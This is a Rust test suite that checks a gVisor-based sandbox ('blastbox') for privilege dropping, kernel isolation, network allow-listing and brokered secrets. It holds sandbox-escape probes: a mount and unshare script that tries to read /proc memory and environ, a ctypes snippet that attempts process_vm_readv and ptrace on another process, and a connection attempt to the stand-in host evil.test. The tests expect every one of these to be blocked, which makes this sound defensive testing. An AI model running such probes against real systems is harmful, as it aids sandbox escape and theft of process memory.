//! What only boxes on gVisor's kernel have: its processes on the host, its kernel inside, and programs that are no gVisor.

#![expect(clippy::unwrap_used, reason = "only tests; one that cannot work must fail at once")]

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;

use blastbox_tests::census::family;
use blastbox_tests::daemon::{Daemon, signal};
use blastbox_tests::internet::{Internet, PUBLIC};
use blastbox_tests::{Boxed, Caller, both_ways, text, tiers, wait_until};
use rustix::process::Signal;

both_ways!(
    its_processes_have_no_power_on_the_host,
    the_payload_runs_on_gvisors_kernel_and_does_not_reach_what_is_behind,
    the_platform_is_the_policys_choice,
    what_is_no_gvisor_is_refused_or_told_by_its_own_words,
    a_box_that_waits_has_run_something_before_it_is_anybodys,
    what_is_not_to_be_dumped_is_nobodys_to_trace,
    an_allowed_host_is_reached_through_the_gateway_and_everything_is_told,
    a_secret_is_lent_at_the_gateway_and_is_not_in_the_box,
);

fn its_processes_have_no_power_on_the_host(caller: &Caller) {
    let Some(bench) = tiers::gvisor(caller) else { return };
    let (held, _said) = bench.start("echo up; sleep 30");
    let warden = family(held.id()).into_iter().find(|one| one.parent == held.id()).map(|one| one.pid);
    let all = family(held.id());
    let own: Vec<_> = all.iter().filter(|one| one.pid != held.id() && Some(one.pid) != warden).collect();
    assert!(own.len() >= 3, "keeper, file server and kernel: {own:?}");
    for process in own {
        let status = fs::read_to_string(format!("/proc/{}/status", process.pid)).unwrap_or_default();
        // One that has ended meanwhile has nothing either.
        for (field, value) in status.lines().filter_map(|line| line.split_once(":\t")) {
            match field {
                "CapInh" | "CapPrm" | "CapEff" | "CapBnd" | "CapAmb" => {
                    assert!(
                        field == "CapBnd" && !caller.is_root() || value == "0000000000000000",
                        "{field} {value}: {process:?}"
                    );
                }
                "NoNewPrivs" => assert_eq!(value, "1", "{process:?}"),
                "Seccomp" => assert_eq!(value, "2", "{process:?}"),
                "Uid" if caller.is_root() => {
                    assert!(!value.split('\t').any(|id| id == "0"), "{value}: {process:?}")
                }
                _ => {}
            }
        }
    }
    signal(held.id(), Signal::TERM);
    held.end();
}

fn the_payload_runs_on_gvisors_kernel_and_does_not_reach_what_is_behind(caller: &Caller) {
    let Some(bench) = tiers::gvisor(caller) else { return };
    let boxed = bench.sh(&[], "uname -r; ls /proc/box /.blastbox/../proc/box 2>&1 | head -1").fine();
    let host = fs::read_to_string("/proc/sys/kernel/osrelease").unwrap_or_default();
    let (release, rest) = boxed.stdout.split_once('\n').unwrap_or_default();
    assert_ne!(release, host.trim());
    assert!(rest.contains("No such file"), "{rest}");
    // With all the power that gVisor gives to a payload over its own namespaces.
    let script = "unshare -Urm sh -c 'mkdir /tmp/m; mount --bind / /tmp/m; umount -l /proc; \
                  for at in /proc /tmp/m/proc; do for file in mem maps environ cmdline; do \
                  head -c 1 $at/box/1/$file && echo READ; done; done'; true";
    let boxed = bench.sh(&[], script).fine();
    assert!(!boxed.stdout.contains("READ"), "{boxed:?}");
}

fn the_platform_is_the_policys_choice(caller: &Caller) {
    let Some(bench) = tiers::gvisor(caller) else { return };
    let usual = caller.blastbox(["policy", "show", "--profile", "default"]).end().text();
    let policy = |platform: &str| {
        let written = usual.replace("\"systrap\"", &format!("\"{platform}\""));
        text(&caller.file(&format!("{platform}.toml"), written)).to_owned()
    };
    let traced = policy("ptrace");
    let boxed = bench.sh(&["--policy", &traced], "uname -r; (echo a; echo b) | tail -n 1").fine();
    let host = fs::read_to_string("/proc/sys/kernel/osrelease").unwrap_or_default();
    assert!(boxed.stdout.ends_with("\nb\n") && !boxed.stdout.contains(host.trim()), "{boxed:?}");
    let options = ["explain", "--tier", "gvisor", "--accept", "silent-denials", "--policy", &traced];
    let said = caller.blastbox(options).end().text();
    assert!(said.contains("platform ptrace"), "{said}");
    let unknown = caller.blastbox(["policy", "check", &policy("xen")]).end();
    assert!(unknown.code != 0 && unknown.err.contains(r#""systrap", "ptrace", "kvm""#), "{unknown:?}");
}

/// The programs once more, with a `runsc` of the test's own.
fn with_runsc(caller: &Caller, name: &str, script: &str, mode: u32) -> PathBuf {
    let folder = caller.directory(name);
    let built = caller.blastbox_path();
    for program in [
        "blastbox",
        "blastbox-full",
        "blastbox-warden",
        "blastbox-agent",
        "blastbox-egress",
        "blastbox-gvisor",
    ] {
        fs::copy(built.with_file_name(program), folder.join(program)).unwrap();
    }
    let runsc = folder.join("runsc");
    fs::write(&runsc, format!("#!/bin/sh\n{script}\n")).unwrap();
    fs::set_permissions(&runsc, fs::Permissions::from_mode(mode)).unwrap();
    folder.join("blastbox")
}

fn what_is_no_gvisor_is_refused_or_told_by_its_own_words(caller: &Caller) {
    let run = |program: &PathBuf| -> Boxed {
        let words = ["run", "--json", "--tier", "gvisor", "--accept", "silent-denials", "--", "/bin/true"];
        caller.program(program, words).end().boxed()
    };
    let new = "[ \"$1\" = --version ] && { echo runsc version release-20250101.0; exit; }";
    let cases = [
        ("old", "echo runsc version release-20230101.0".to_owned(), 0o755, "refused", "20230101"),
        ("mute", "exit 0".to_owned(), 0o755, "refused", "unclear"),
        ("broken", format!("{new}; echo 'no such platform' >&2; exit 1"), 0o755, "lost", "no such platform"),
        ("dying", format!("{new}; kill -9 $$"), 0o755, "lost", "ended before it was ready"),
    ];
    for (name, script, mode, outcome, word) in cases {
        let boxed = run(&with_runsc(caller, name, &script, mode));
        assert_eq!((boxed.outcome(), boxed.receipt.exit_code), (outcome, 125), "{name}: {boxed:?}");
        let reason = boxed.receipt.reason.as_ref().map(|reason| format!("{reason:?}")).unwrap_or_default();
        assert!(reason.contains(word), "{name}: {reason}");
    }
    // One that anybody can change is passed over, so that the next one counts, or none.
    let boxed = run(&with_runsc(caller, "open", &format!("{new}; echo taken >&2; exit 1"), 0o777));
    let reason = boxed.receipt.reason.map(|reason| format!("{reason:?}")).unwrap_or_default();
    assert!(!reason.contains("taken"), "{reason}");
}

/// The first command of gVisor's kernel is the dearest one: its owner does not wait for it, and the ledger has it.
fn a_box_that_waits_has_run_something_before_it_is_anybodys(caller: &Caller) {
    let Some(bench) = tiers::gvisor(caller) else { return };
    let warm = "[pool]\nmax = 1\n[[pool.warm]]\nmin = 1\ntier = \"gvisor\"\naccept = [\"silent-denials\"]\n";
    let config = caller.file("warm.toml", warm).display().to_string();
    let mut daemon = Daemon::shipped(caller).with_config(config);
    daemon.start(None);
    assert!(daemon.await_answer());
    assert!(wait_until(|| daemon.ask(&["metrics"]).contains("blastbox_pool_boxes 1")));
    let made = daemon.ask(&[&["create"][..], &bench.with(&[])].concat());
    let hits = daemon.ask(&["metrics"]);
    assert!(hits.contains("blastbox_pool_hits_total 1"), "{hits}");
    assert_eq!(daemon.ask(&["exec", &made, "--", "sh", "-c", "echo mine"]), "mine");
    daemon.ask(&["kill", &made]);
    let ledger = daemon.state().join("ledger").display().to_string();
    daemon.stop();
    let shown = caller.blastbox(["audit", "show", &ledger, "--box", &made, "--json"]).end().text();
    let told: Vec<&str> =
        ["command_asked", "command_ended", "box_ready", "command_asked", "command_ended"].into();
    let seen: Vec<&str> = shown
        .lines()
        .filter_map(|line| told.iter().copied().find(|word| line.contains(&format!("\"{word}\""))))
        .collect();
    assert_eq!(seen, told, "{shown}");
}

/// A command that begins has the payload's user and, for a moment, the agent's memory: what keeps other commands out of it is this alone.
fn what_is_not_to_be_dumped_is_nobodys_to_trace(caller: &Caller) {
    let Some(bench) = tiers::gvisor(caller) else { return };
    let script = r#"exec python3 - <<'END'
import ctypes, os, signal
c = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("length", ctypes.c_size_t)]
eight = ctypes.create_string_buffer(8)
vector = ctypes.byref(Vector(ctypes.addressof(eight), 8))
for dumpable in 1, 0:
    ready, tell = os.pipe()
    child = os.fork()
    if child == 0:
        c.prctl(4, dumpable, 0, 0, 0)
        os.write(tell, b".")
        signal.pause()
    os.read(ready, 1)
    print(dumpable, c.process_vm_readv(child, vector, 1, vector, 1, 0), c.process_vm_writev(child, vector, 1, vector, 1, 0), c.ptrace(16, child, 0, 0))
    os.kill(child, 9)
END"#;
    assert_eq!(bench.sh(&[], script).fine().stdout, "1 8 8 0\n0 -1 -1 -1\n");
}

fn an_allowed_host_is_reached_through_the_gateway_and_everything_is_told(caller: &Caller) {
    let Some(bench) = tiers::gvisor(caller) else { return };
    let Some(internet) = Internet::build(caller) else { return };
    internet.name("echo.example.com", &[&[PUBLIC]]);
    internet.name("evil.test", &[&[PUBLIC]]);
    internet.echo(7);
    let code = r#"
import socket
def talk(host, port, text):
    try:
        at = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        with socket.create_connection(at, timeout=20) as one:
            one.sendall(text)
            got = b""
            while len(got) < len(text):
                more = one.recv(65536)
                if not more: break
                got += more
            return got == text
    except OSError: return "no way"
for host, port in ("echo.example.com", 7), ("echo.example.com", 8), ("evil.test", 7):
    print(talk(host, port, b"a" * 100000))"#;
    let options = bench.with(&["--allow", "echo.example.com:7"]);
    let boxed = internet.python(caller, &options, code).fine();
    assert_eq!(boxed.stdout, "True\nno way\nno way\n", "{}", boxed.stderr);
    assert_eq!(internet.visits(), [format!("{PUBLIC}:7")]);
    assert!(!internet.questions().iter().any(|name| name == "evil.test"), "{:?}", internet.questions());
    let network = &boxed.receipt.network;
    let allowed: Vec<_> = network
        .allowed
        .iter()
        .map(|line| (line.rule.as_str(), line.connections, line.sent_bytes, line.received_bytes))
        .collect();
    assert_eq!(allowed, [("echo.example.com", 1, 100_000, 100_000)]);
    let was_denied = |target: &str, reason: &str| {
        network.denied.iter().any(|line| line.target == target && line.reason == reason)
    };
    assert!(was_denied("echo.example.com", "port-not-allowed"), "{:?}", network.denied);
    assert!(was_denied("evil.test", "host-not-allowed"), "{:?}", network.denied);
    assert!(!network.gateway_lost);
}

/// The box believes the gateway, which reads the request and puts in what the box never had.
fn a_secret_is_lent_at_the_gateway_and_is_not_in_the_box(caller: &Caller) {
    const TOKEN: &str = "the-secret-that-no-guest-has-42";
    let Some(bench) = tiers::gvisor(caller) else { return };
    let Some(internet) = Internet::build(caller) else { return };
    internet.name("api.example.com", &[&[PUBLIC]]);
    if !internet.secure_echo(caller, "api.example.com") {
        return;
    }
    let private = |name: &str, text: &str| {
        let path = caller.file(name, text);
        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        path
    };
    let token = private("token", TOKEN);
    let sources = private(
        "secrets.toml",
        &format!("[secrets.token]\nhosts = [\"api.example.com\"]\nfile = {token:?}\n"),
    );
    let policy = caller.file(
        "policy.toml",
        "threat = \"medium\"\naccept = [\"shared-kernel\", \"host-image\", \"shared-uid\", \"no-memory-limit\", \
         \"no-cpu-limit\", \"no-pids-limit\", \"weak-landlock\", \"swap-unlimited\"]\n\
         [network]\nmode = \"allow\"\nallow = [{ host = \"api.example.com\", tls = \"inspect\" }]\n\
         [credentials]\nmode = \"brokered\"\nbind = [{ secret = \"token\", host = \"api.example.com\" }]\n",
    );
    let code = "import os, urllib.request
answer = urllib.request.urlopen('https://api.example.com/ok', timeout=40)
print(answer.status, answer.read().decode(), dict(os.environ))";
    let options = bench.with(&["--policy", text(&policy), "--secrets", text(&sources)]);
    let boxed = internet.python(caller, &options, code).fine();
    assert!(boxed.stdout.starts_with("200 GET /ok "), "{}", boxed.stdout);
    assert!(!boxed.stdout.contains(TOKEN) && !boxed.stderr.contains(TOKEN), "{boxed:?}");
    let requests = internet.requests();
    assert!(requests.len() == 1 && requests.iter().all(|head| head.contains(&format!("Bearer {TOKEN}\r\n"))));
}
